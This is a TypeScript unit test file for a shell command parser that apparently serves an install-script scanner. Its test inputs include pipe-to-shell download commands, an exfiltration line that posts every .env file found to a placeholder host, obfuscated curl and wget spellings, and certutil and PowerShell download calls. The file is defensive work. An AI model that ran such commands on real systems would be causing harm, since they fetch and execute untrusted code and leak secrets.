import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { growsEvenly } from '../../test/effort.ts';
import { readCommands, runsFiles } from './shell.ts';

const programs = (line: string): string[] => readCommands(line).map(command => command.program);
const scripts = (line: string): string[] =>
  readCommands(line).flatMap(command => (command.code?.language === 'javascript' ? [command.code.text] : []));
const files = (line: string): string[] => runsFiles(readCommands(line));

describe('readCommands', () => {
  it('splits at every operator of both shells', () => {
    assert.deepEqual(programs('a && b || c; d & e | f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    assert.deepEqual(programs('(a; b) | c'), ['a', 'b', 'c']);
  });

  it('connects pipes, also out of a subshell and through wrappers', () => {
    const [first, second] = readCommands('curl -s https://x.invalid/a | sudo bash -s');
    assert.equal(first?.pipedFrom, undefined);
    assert.equal(second?.program, 'bash');
    assert.deepEqual(second?.via, ['sudo']);
    assert.equal(second?.pipedFrom, 0);
    assert.equal(readCommands('(cd x; curl y) | sh').at(-1)?.pipedFrom, 1);
    assert.equal(readCommands('a | b && c').at(-1)?.pipedFrom, undefined);
  });

  it('connects substitutions', () => {
    for (const line of [
      'sh -c "$(curl -s https://x.invalid)"',
      'eval "$(curl x)"',
      'bash <(curl x)',
      'sh `curl x`',
      'bash -c "$(curl x)"',
      '$(curl x)',
    ]) {
      const commands = readCommands(line);
      const fed = commands.find(command => command.pipedFrom !== undefined);
      assert.equal(commands[fed?.pipedFrom ?? -1]?.program, 'curl', line);
    }
  });

  it('reads quotes, escapes, assignments, redirections and split words as a shell does', () => {
    const [command] = readCommands(`A=1 B='x y' node "a b.js" --c='d' 2>/dev/null > out.txt`);
    assert.equal(command?.program, 'node');
    assert.deepEqual(
      [...(command?.env ?? [])],
      [
        ['A', '1'],
        ['B', 'x y'],
      ],
    );
    assert.deepEqual(command?.args, ['a b.js', '--c=d']);
    assert.equal(command?.redirectsTo, 'out.txt');
    assert.deepEqual(programs(String.raw`c\u"r"'l' x; cu^rl y; wget\${IFS}z`.replace('\\$', '$')), ['curl', 'curl', 'wget']);
  });

  it('does what find and cmake are told, and what a runner is handed', () => {
    assert.deepEqual(programs('find "$HOME" -name .env -exec curl -F \'f=@{}\' https://a.invalid \\;'), ['curl', 'find']);
    assert.deepEqual(runsFiles(readCommands('cmake -DQUIET=ON -P cmake/probe.cmake; cmake-js compile; node run.js tools/a.py --quiet')), [
      'cmake/probe.cmake',
      '{CMakeLists.txt,}',
      'compile/{CMakeLists.txt,}',
      'run.js',
      'tools/a.py',
    ]);
  });

  it('finds what is run for each of several files', () => {
    assert.deepEqual(files('run-parts steps'), ['steps/*']);
    assert.deepEqual(files('find . -name "*.dat" -exec sh {} +'), ['*/*.dat']);
    assert.deepEqual(files('find steps -name "*.sh" | xargs -n1 sh'), ['steps/*/*.sh']);
    assert.deepEqual(files('ls steps | xargs -I{} bash {}'), ['steps/*']);
    assert.deepEqual(files('cat list.txt | xargs -I{} sh -c "{}"'), ['list.txt']);
    assert.deepEqual(files('for f in "steps"/*; do . "$f"; done; for g in a b; do node $g.js; done'), ['steps/*', 'a.js', 'b.js']);
    assert.deepEqual(files('find . -name "*.sh" -exec chmod +x {} +; ls lib | xargs rm; for f in a b; do echo $f; done'), []);
  });

  it('finds what programs are built and set up by', () => {
    assert.deepEqual(files('go run ./tools -x; go run a.go b.go'), ['tools/*.go', 'a.go', 'b.go']);
    assert.deepEqual(files('awk -f tools/a.awk b.txt; Rscript a.R; julia --project=. deps/build.jl; java -jar a.jar'), [
      'tools/a.awk',
      'a.R',
      'deps/build.jl',
      'a.jar',
    ]);
    assert.deepEqual(files('gradle -p native assemble; zig build -Doptimize=ReleaseFast'), [
      'native/{build.gradle,build.gradle.kts,settings.gradle,settings.gradle.kts,}',
      '{build.zig,}',
    ]);
    assert.deepEqual(
      files('go build; go run example.invalid/x@latest; swift build; dotnet test; lua -e "x.y()"; java Main; pip install a.b'),
      [],
    );
  });

  it('takes wrappers off', () => {
    for (const line of ['nohup /tmp/a/run x &', 'timeout 5s /tmp/a/run x', 'start "" /b /wait /tmp/a/run x'])
      assert.deepEqual(
        readCommands(line).map(({ files }) => files),
        [['/tmp/a/run']],
      );
    assert.deepEqual(programs('cross-env CI=1 sh -c "node a.js && node b.js"'), ['node', 'node']);
    assert.deepEqual(programs('cmd.exe /d /s /c "curl x & start /b y.exe"'), ['curl', 'y']);
    assert.deepEqual(programs('npx --yes node-pre-gyp install'), ['node-pre-gyp']);
    assert.deepEqual(programs(String.raw`C:\Windows\System32\CERTUTIL.EXE -urlcache`.replaceAll('\\', '/')), ['certutil']);
    assert.deepEqual(programs('npx -c "node a.js && node b.js"; concurrently "node c.js" "npm:x"'), ['node', 'node', 'node', 'npm']);
  });

  it('tells which scripts of the package it starts', () => {
    const started = (line: string): readonly string[] => readCommands(line).flatMap(command => command.scripts);
    assert.deepEqual(started('npm run build; npm --prefix x rum y; yarn build; pnpm run a; bun b'), ['build', 'y', 'build', 'a', 'b']);
    assert.deepEqual(started('npm t; npm restart; node --run c; corepack yarn d'), ['test', 'stop', 'restart', 'start', 'c', 'd']);
    assert.deepEqual(started('run-s a b; npm-run-all --parallel c; concurrently -k "npm:d" "node e.js"'), ['a', 'b', 'c', 'd']);
    assert.deepEqual(started('npm install; npm ci; node build; nodemon x'), []);
  });

  it('finds code in the command', () => {
    assert.deepEqual(scripts(`node tool.js -p ./tsconfig.json -e .ts && ts-node lib/run.js --print none`), []);
    assert.deepEqual(scripts(`node --no-warnings -r ./a.js -p "require('./x')"; deno eval '1'`), [`require('./x')`, '1']);
    assert.deepEqual(scripts(`node -e "require('./x')" && node --eval='1' || python -c 'import os'`), [`require('./x')`, '1']);
    assert.deepEqual(readCommands('powershell -NoP -c iwr x')[0]?.code, { language: 'powershell', text: 'iwr x' });
    assert.deepEqual(readCommands('python3 -c "print(1)"')[0]?.code, { language: 'python', text: 'print(1)' });
  });

  it('finds the files it runs', () => {
    assert.deepEqual(files('node ./lib/install.js && node install'), ['lib/install.js', 'install']);
    for (const folder of ['$PWD', '${PWD}', '$(pwd)', '`pwd`', '%CD%'])
      assert.deepEqual(files(`node ${folder}/a.js && node ${folder}`), ['a.js', '.'], folder);
    // The folder that npm was called in is that of the user's project.
    for (const other of ['$PWDS', '$INIT_CWD']) assert.deepEqual(files(`node ${other}/a.js`), [], other);
    assert.deepEqual(files('node -r ./hook.js --import=./b.mjs main'), ['hook.js', 'b.mjs', 'main']);
    assert.deepEqual(files(String.raw`node scripts\build.js & scripts\x.bat`), ['scripts/build.js', 'scripts/x.bat']);
    assert.deepEqual(files('sh ./a.sh; . ./b.sh; ./c; python d.py; powershell -File e.ps1; bun run f.ts'), [
      'a.sh',
      'b.sh',
      'c',
      'd.py',
      'e.ps1',
      'f.ts',
    ]);
    assert.deepEqual(files('node /tmp/x.js; node ~/y.js; node $HOME/z.js; node ../out.js; deno run https://x.invalid/a.ts; curl x'), []);
  });

  it('knows what an interpreter is fed', () => {
    assert.deepEqual(files('cat lib/x | node'), ['lib/x']);
    assert.deepEqual(files('node < lib/x'), ['lib/x']);
    assert.deepEqual(files('head -n 3 a.txt | tr a b | sh'), ['a.txt']);
    assert.deepEqual(files('eval "$(cat lib/x)"'), ['lib/x']);
    assert.deepEqual(files('node -e "$(cat lib/x)"'), ['lib/x']);
    assert.deepEqual(files('cat data.json | node parse.js'), ['parse.js']);
    assert.deepEqual(files('echo lib/x.dat | xargs node'), ['lib/x.dat']);
    assert.deepEqual(programs("printf 'a x\\nb' | sh"), ['printf', 'a', 'b']);
  });

  it('knows the folder that commands run in', () => {
    assert.deepEqual(files('cd lib && node a && cd .. && node b'), ['lib/a', 'b']);
    assert.deepEqual(files('(cd lib; node a)'), ['lib/a']);
    assert.deepEqual(files('sh -c "cd lib && node a" && node b'), ['lib/a', 'b']);
    assert.deepEqual(readCommands('cd /tmp && node a')[1]?.files, ['/tmp/a']);
  });

  it('knows what the options of Node load', () => {
    assert.deepEqual(files('NODE_OPTIONS="--require ./lib/a.js" npm -v'), ['lib/a.js']);
    assert.deepEqual(scripts("node --import 'data:text/javascript,x()' a.js"), ['data:text/javascript,x()']);
  });

  it('survives what no shell would take', () => {
    for (const line of ['', ';;;', '"', "'", '$(', '`', '((((', '|', '> ', 'sh -c', 'env', 'sudo', '\\', 'cmd /c', 'X=1', '\0'.repeat(9)])
      readCommands(line);
  });

  it('is bounded', () => {
    for (const piece of ['$(', '`', 'sh -c "', '(', 'a|', '\\', '"$(', '$(a '])
      growsEvenly(25_000, times => () => assert.ok(readCommands(piece.repeat(times)).length <= 300));
  });
});
